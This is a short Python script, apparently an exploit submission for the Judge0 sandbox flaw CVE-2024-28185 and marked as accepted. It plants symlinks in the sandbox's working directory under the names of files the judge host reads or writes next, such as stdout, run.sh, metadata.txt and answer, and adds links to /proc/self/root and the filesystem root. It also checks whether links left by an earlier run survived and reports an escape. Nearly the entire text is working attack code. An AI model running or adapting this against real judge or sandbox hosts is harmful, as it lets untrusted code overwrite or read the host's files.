# Judge0 CVE-2024-28185: links in place of what the host may write or read next, of every kind and name.
# verdicts: ACCEPTED
import os
import sys

targets = dict(line.split(" ", 1) for line in sys.stdin.read().splitlines())
if os.path.lexists("/work/stdout"):
    print("ESCAPED: the links of the last run")
    sys.exit()
for name in ("stdout", "stderr", "stdin", "run", "compile", "run.sh", "metadata.txt", "input", "output", "answer",
             "judge.in", "judge.ans", "feedback", ".gavel", "core"):
    os.symlink(targets["file"], f"/work/{name}")
os.symlink("/proc/self/root", "/work/root")
os.symlink("/", "/tmp/slash")
os.symlink("loop", "/work/loop")
print("held")
